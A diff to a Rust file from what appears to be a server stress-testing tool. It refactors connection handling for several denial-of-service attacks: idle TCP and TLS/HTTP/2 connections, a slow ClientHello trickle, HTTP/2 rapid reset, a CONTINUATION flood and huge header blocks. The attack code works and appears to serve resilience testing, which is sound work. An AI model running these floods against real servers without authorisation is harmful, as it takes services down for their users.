@@ -7,6 +7,7 @@
 //! `ctx.stats`.
 
 use std::future::Future;
+use std::pin::Pin;
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
@@ -88,42 +89,110 @@ fn count_close(stats: &Stats, held: Duration) {
     stats.max("longest hold (ms)", held.as_millis() as u64);
 }
 
-/// Waits for the deadline (attacks whose work lives in spawned tasks).
-async fn hold_until(deadline: Instant) {
-    tokio::time::sleep_until(deadline.into()).await;
+/// Runs `slot(ctx, c)` for each connection slot `c` in 0..`ctx.connections`,
+/// each in a task of its own, until the deadline (the tasks live in a
+/// `JoinSet` owned by this future, so they end with it).
+async fn per_connection<F, Fut>(ctx: Arc<Ctx>, slot: F)
+where
+    F: Fn(Arc<Ctx>, usize) -> Fut,
+    Fut: Future<Output = ()> + Send + 'static,
+{
+    let mut set = JoinSet::new();
+    for c in 0..ctx.connections {
+        set.spawn(slot(ctx.clone(), c));
+    }
+    tokio::time::sleep_until(ctx.deadline.into()).await;
+}
+
+/// What [`hold_and_reconnect`] runs on an open connection (boxed: it borrows
+/// the slot's random generator).
+type Holding<'r> = Pin<Box<dyn Future<Output = ()> + Send + 'r>>;
+
+/// One connection slot of an idle-style attack, for ever: `connect`s
+/// (counting the connection under `opened`, or the failure), lets `hold`
+/// keep it until the server closes it (gauged as open meanwhile, and the
+/// close counted by how long it was held), then waits [`RECONNECT`]
+/// (jittered, from a generator seeded with `seed`) before the next.
+async fn hold_and_reconnect<C, Connect, Fut, Hold>(
+    ctx: &Ctx,
+    seed: usize,
+    opened: &str,
+    mut connect: Connect,
+    mut hold: Hold,
+) where
+    Connect: FnMut() -> Fut,
+    Fut: Future<Output = Result<C, String>>,
+    Hold: for<'r> FnMut(C, &'r mut Rng) -> Holding<'r>,
+{
+    let mut rng = Rng::new(seed as u64);
+    loop {
+        match connect().await {
+            Ok(conn) => {
+                ctx.stats.inc(opened);
+                ctx.stats.gauge("connections open", 1);
+                let since = Instant::now();
+                hold(conn, &mut rng).await;
+                ctx.stats.gauge("connections open", -1);
+                count_close(&ctx.stats, since.elapsed());
+            }
+            Err(e) => ctx.stats.inc(&format!("connect failed: {e}")),
+        }
+        tokio::time::sleep(rng.between(RECONNECT.0, RECONNECT.1)).await;
+    }
+}
+
+/// Connects with `connect` until it succeeds (each failure counted, then
+/// retried after 100 ms), and counts the connection established.
+async fn connect_retrying<C, Fut>(stats: &Stats, mut connect: impl FnMut() -> Fut) -> C
+where
+    Fut: Future<Output = Result<C, String>>,
+{
+    loop {
+        match connect().await {
+            Ok(conn) => {
+                stats.inc("connections established");
+                return conn;
+            }
+            Err(e) => {
+                stats.inc(&format!("connect failed: {e}"));
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+        }
+    }
+}
+
+/// A TCP connection, its error named for counting.
+async fn tcp(ctx: &Ctx) -> Result<tokio::net::TcpStream, String> {
+    ctx.dialer.tcp().await.map_err(|e| wire::io_kind(&e))
+}
+
+/// A [`RawConn`], retried until one opens (see [`connect_retrying`]).
+async fn raw_conn(ctx: &Ctx) -> RawConn {
+    connect_retrying(&ctx.stats, || RawConn::open(&ctx.dialer, ctx.stats.clone())).await
 }
 
 /// Attack 1, idle TCP: `connections` TCP connections that never send a byte.
 async fn idle_tcp(ctx: Arc<Ctx>) {
-    let mut set = JoinSet::new();
-    for i in 0..ctx.connections {
-        let ctx = ctx.clone();
-        set.spawn(async move {
-            let mut rng = Rng::new(i as u64);
-            loop {
-                match ctx.dialer.tcp().await {
-                    Ok(mut tcp) => {
-                        ctx.stats.inc("connections opened");
-                        ctx.stats.gauge("connections open", 1);
-                        let since = Instant::now();
-                        let mut buf = [0u8; 256];
-                        while let Ok(n) = tcp.read(&mut buf).await {
-                            if n == 0 {
-                                break;
-                            }
+    per_connection(ctx, |ctx, i| async move {
+        hold_and_reconnect(
+            &ctx,
+            i,
+            "connections opened",
+            || tcp(&ctx),
+            |mut tcp, _| {
+                Box::pin(async move {
+                    let mut buf = [0u8; 256];
+                    while let Ok(n) = tcp.read(&mut buf).await {
+                        if n == 0 {
+                            break;
                         }
-                        ctx.stats.gauge("connections open", -1);
-                        count_close(&ctx.stats, since.elapsed());
                     }
-                    Err(e) => ctx
-                        .stats
-                        .inc(&format!("connect failed: {}", wire::io_kind(&e))),
-                }
-                tokio::time::sleep(rng.between(RECONNECT.0, RECONNECT.1)).await;
-            }
-        });
-    }
-    hold_until(ctx.deadline).await;
+                })
+            },
+        )
+        .await;
+    })
+    .await;
 }
 
 /// Attack 2, idle TLS + HTTP/2: complete both handshakes, then send nothing; the
@@ -134,36 +203,29 @@ async fn idle_h2(ctx: Arc<Ctx>) {
     // max_concurrent_handshakes, so the connections are established rather
     // than refused.
     let handshaking = Arc::new(tokio::sync::Semaphore::new(256));
-    let mut set = JoinSet::new();
-    for i in 0..ctx.connections {
-        let (ctx, handshaking) = (ctx.clone(), handshaking.clone());
-        set.spawn(async move {
-            let mut rng = Rng::new(i as u64);
-            loop {
-                let permit = handshaking.acquire().await;
-                let conn = ctx.dialer.h2().await;
-                drop(permit);
-                match conn {
-                    Ok((send, connection)) => {
-                        ctx.stats.inc("connections established");
-                        ctx.stats.gauge("connections open", 1);
-                        let since = Instant::now();
-                        let end = connection.await;
-                        drop(send);
-                        ctx.stats.gauge("connections open", -1);
-                        count_close(&ctx.stats, since.elapsed());
-                        ctx.stats.inc(&match end {
-                            Ok(()) => "connection ended cleanly".to_owned(),
-                            Err(e) => format!("connection ended: {}", wire::h2_error(&e)),
-                        });
-                    }
-                    Err(e) => ctx.stats.inc(&format!("connect failed: {e}")),
-                }
-                tokio::time::sleep(rng.between(RECONNECT.0, RECONNECT.1)).await;
-            }
-        });
-    }
-    hold_until(ctx.deadline).await;
+    per_connection(ctx, move |ctx, i| {
+        let handshaking = handshaking.clone();
+        async move {
+            let h2 = || async {
+                let _permit = handshaking.acquire().await;
+                ctx.dialer.h2().await
+            };
+            let opened = "connections established";
+            hold_and_reconnect(&ctx, i, opened, h2, |(send, connection), _| {
+                let stats = ctx.stats.clone();
+                Box::pin(async move {
+                    let end = connection.await;
+                    drop(send);
+                    stats.inc(&match end {
+                        Ok(()) => "connection ended cleanly".to_owned(),
+                        Err(e) => format!("connection ended: {}", wire::h2_error(&e)),
+                    });
+                })
+            })
+            .await;
+        }
+    })
+    .await;
 }
 
 /// The bytes of a real ClientHello from the attacker's TLS configuration.
@@ -188,35 +250,29 @@ async fn slow_handshake(ctx: Arc<Ctx>) {
         }
     };
     ctx.stats.max("ClientHello bytes", hello.len() as u64);
-    let mut set = JoinSet::new();
-    for i in 0..ctx.connections {
-        let (ctx, hello) = (ctx.clone(), hello.clone());
-        set.spawn(async move {
-            let mut rng = Rng::new(i as u64);
-            loop {
-                match ctx.dialer.tcp().await {
-                    Ok(tcp) => {
-                        ctx.stats.inc("connections opened");
-                        ctx.stats.gauge("connections open", 1);
-                        let since = Instant::now();
-                        let sent = trickle(tcp, &hello, &mut rng).await;
-                        ctx.stats.add("ClientHello bytes trickled", sent as u64);
+    per_connection(ctx, move |ctx, i| {
+        let hello = hello.clone();
+        async move {
+            hold_and_reconnect(
+                &ctx,
+                i,
+                "connections opened",
+                || tcp(&ctx),
+                |tcp, rng| {
+                    let (stats, hello) = (ctx.stats.clone(), hello.clone());
+                    Box::pin(async move {
+                        let sent = trickle(tcp, &hello, rng).await;
+                        stats.add("ClientHello bytes trickled", sent as u64);
                         if sent == hello.len() {
-                            ctx.stats
-                                .inc("whole ClientHello sent before the server closed");
+                            stats.inc("whole ClientHello sent before the server closed");
                         }
-                        ctx.stats.gauge("connections open", -1);
-                        count_close(&ctx.stats, since.elapsed());
-                    }
-                    Err(e) => ctx
-                        .stats
-                        .inc(&format!("connect failed: {}", wire::io_kind(&e))),
-                }
-                tokio::time::sleep(rng.between(RECONNECT.0, RECONNECT.1)).await;
-            }
-        });
-    }
-    hold_until(ctx.deadline).await;
+                    })
+                },
+            )
+            .await;
+        }
+    })
+    .await;
 }
 
 /// Trickles `hello` until the server closes the connection; returns the
@@ -269,20 +325,11 @@ where
     F: Fn(Arc<Ctx>, SendRequest<Bytes>, usize) -> Fut + Clone + Send + Sync + 'static,
     Fut: Future<Output = ()> + Send + 'static,
 {
-    let mut set = JoinSet::new();
-    for c in 0..ctx.connections {
-        let (ctx, worker) = (ctx.clone(), worker.clone());
-        set.spawn(async move {
+    per_connection(ctx, move |ctx, c| {
+        let worker = worker.clone();
+        async move {
             loop {
-                let (send, connection) = match ctx.dialer.h2().await {
-                    Ok(pair) => pair,
-                    Err(e) => {
-                        ctx.stats.inc(&format!("connect failed: {e}"));
-                        tokio::time::sleep(Duration::from_millis(100)).await;
-                        continue;
-                    }
-                };
-                ctx.stats.inc("connections established");
+                let (send, connection) = connect_retrying(&ctx.stats, || ctx.dialer.h2()).await;
                 let since = Instant::now();
                 // Owned here, so it is dropped (and the connection closed)
                 // with this task.
@@ -310,9 +357,9 @@ where
                 drop(workers);
                 tokio::time::sleep(Duration::from_millis(20)).await;
             }
-        });
-    }
-    hold_until(ctx.deadline).await;
+        }
+    })
+    .await;
 }
 
 /// Opens a stream for a gRPC call with `token` (None: no authorization),
@@ -400,21 +447,12 @@ async fn token_flood(ctx: Arc<Ctx>, forged: bool) {
 async fn rapid_reset(ctx: Arc<Ctx>) {
     const BATCH: u32 = 100;
     let block = wire::request_block(&ctx.dialer.authority, None);
-    let mut set = JoinSet::new();
-    for _ in 0..ctx.connections {
-        let (ctx, block) = (ctx.clone(), block.clone());
-        set.spawn(async move {
+    per_connection(ctx, move |ctx, _| {
+        let block = block.clone();
+        async move {
             let mut batch = Vec::with_capacity(BATCH as usize * (block.len() + 32));
             loop {
-                let conn = match RawConn::open(&ctx.dialer, ctx.stats.clone()).await {
-                    Ok(c) => c,
-                    Err(e) => {
-                        ctx.stats.inc(&format!("connect failed: {e}"));
-                        tokio::time::sleep(Duration::from_millis(100)).await;
-                        continue;
-                    }
-                };
-                ctx.stats.inc("connections established");
+                let conn = raw_conn(&ctx).await;
                 let since = Instant::now();
                 let (mut id, mut on_this) = (1u32, 0u64);
                 while !conn.is_closed() && id < (1 << 31) - 2 * BATCH {
@@ -444,9 +482,9 @@ async fn rapid_reset(ctx: Arc<Ctx>) {
                     since.elapsed().as_millis() as u64,
                 );
             }
-        });
-    }
-    hold_until(ctx.deadline).await;
+        }
+    })
+    .await;
 }
 
 /// Attack 6, late reset: valid requests (pool token and CSR), each reset
@@ -495,24 +533,15 @@ async fn continuation_flood(ctx: Arc<Ctx>) {
         n += 1;
     }
     fields.truncate(wire::MAX_FRAME);
-    let mut set = JoinSet::new();
-    for c in 0..ctx.connections {
-        let (ctx, fields) = (ctx.clone(), fields.clone());
-        set.spawn(async move {
+    per_connection(ctx, move |ctx, c| {
+        let fields = fields.clone();
+        async move {
             let mut burst = Vec::with_capacity(8 * (wire::MAX_FRAME + 9));
             for _ in 0..8 {
                 wire::frame(&mut burst, wire::CONTINUATION, 0, 1, &fields);
             }
             loop {
-                let conn = match RawConn::open(&ctx.dialer, ctx.stats.clone()).await {
-                    Ok(c) => c,
-                    Err(e) => {
-                        ctx.stats.inc(&format!("connect failed: {e}"));
-                        tokio::time::sleep(Duration::from_millis(100)).await;
-                        continue;
-                    }
-                };
-                ctx.stats.inc("connections established");
+                let conn = raw_conn(&ctx).await;
                 let since = Instant::now();
                 let mut head = Vec::new();
                 let block = wire::request_block(&ctx.dialer.authority, Some(ctx.entry(c).0));
@@ -532,9 +561,9 @@ async fn continuation_flood(ctx: Arc<Ctx>) {
                     since.elapsed().as_millis() as u64,
                 );
             }
-        });
-    }
-    hold_until(ctx.deadline).await;
+        }
+    })
+    .await;
 }
 
 /// Attack 8, held streams: HEADERS of a valid call (token, gRPC content type) with
@@ -638,59 +667,47 @@ async fn oversized_body(ctx: Arc<Ctx>) {
 /// (END_STREAM); streams back to back on `connections` connections, without
 /// waiting for answers.
 async fn huge_headers(ctx: Arc<Ctx>) {
-    let mut set = JoinSet::new();
-    for c in 0..ctx.connections {
-        let ctx = ctx.clone();
-        set.spawn(async move {
-            let base = wire::request_block(&ctx.dialer.authority, Some(ctx.entry(c).0));
-            let mut many = base.clone();
-            for n in 0..4096 {
-                wire::hpack_literal(&mut many, &format!("x-extra-{n:04}"), &[b'v'; 32]);
-            }
-            let mut giant = base;
-            wire::hpack_literal(&mut giant, "x-giant", &vec![b'g'; 256 << 10]);
-            let data = ctx.valid_body(c);
-            let mut out = Vec::with_capacity(giant.len() + 4096);
-            loop {
-                let conn = match RawConn::open(&ctx.dialer, ctx.stats.clone()).await {
-                    Ok(c) => c,
-                    Err(e) => {
-                        ctx.stats.inc(&format!("connect failed: {e}"));
-                        tokio::time::sleep(Duration::from_millis(100)).await;
-                        continue;
-                    }
-                };
-                ctx.stats.inc("connections established");
-                let mut id = 1u32;
-                while !conn.is_closed() && id < (1 << 31) - 2 {
-                    let block = if id % 4 == 1 { &many } else { &giant };
-                    out.clear();
-                    let mut chunks = block.chunks(wire::MAX_FRAME).peekable();
-                    let mut first = true;
-                    while let Some(chunk) = chunks.next() {
-                        let last = chunks.peek().is_none();
-                        let ty = if first {
-                            wire::HEADERS
-                        } else {
-                            wire::CONTINUATION
-                        };
-                        let flags = if last { wire::END_HEADERS } else { 0 };
-                        wire::frame(&mut out, ty, flags, id, chunk);
-                        first = false;
-                    }
-                    wire::frame(&mut out, wire::DATA, wire::END_STREAM, id, &data);
-                    if conn.write(&out).await.is_err() {
-                        break;
-                    }
-                    ctx.stats.inc("requests sent");
-                    ctx.stats.add("header bytes sent", block.len() as u64);
-                    id += 2;
-                    tokio::task::yield_now().await;
+    per_connection(ctx, |ctx, c| async move {
+        let base = wire::request_block(&ctx.dialer.authority, Some(ctx.entry(c).0));
+        let mut many = base.clone();
+        for n in 0..4096 {
+            wire::hpack_literal(&mut many, &format!("x-extra-{n:04}"), &[b'v'; 32]);
+        }
+        let mut giant = base;
+        wire::hpack_literal(&mut giant, "x-giant", &vec![b'g'; 256 << 10]);
+        let data = ctx.valid_body(c);
+        let mut out = Vec::with_capacity(giant.len() + 4096);
+        loop {
+            let conn = raw_conn(&ctx).await;
+            let mut id = 1u32;
+            while !conn.is_closed() && id < (1 << 31) - 2 {
+                let block = if id % 4 == 1 { &many } else { &giant };
+                out.clear();
+                let mut chunks = block.chunks(wire::MAX_FRAME).peekable();
+                let mut first = true;
+                while let Some(chunk) = chunks.next() {
+                    let last = chunks.peek().is_none();
+                    let ty = if first {
+                        wire::HEADERS
+                    } else {
+                        wire::CONTINUATION
+                    };
+                    let flags = if last { wire::END_HEADERS } else { 0 };
+                    wire::frame(&mut out, ty, flags, id, chunk);
+                    first = false;
                 }
+                wire::frame(&mut out, wire::DATA, wire::END_STREAM, id, &data);
+                if conn.write(&out).await.is_err() {
+                    break;
+                }
+                ctx.stats.inc("requests sent");
+                ctx.stats.add("header bytes sent", block.len() as u64);
+                id += 2;
+                tokio::task::yield_now().await;
             }
-        });
-    }
-    hold_until(ctx.deadline).await;
+        }
+    })
+    .await;
 }
 
 /// Attack 9c, deeply nested protobuf: a valid token and CSR, and `metadata` (a
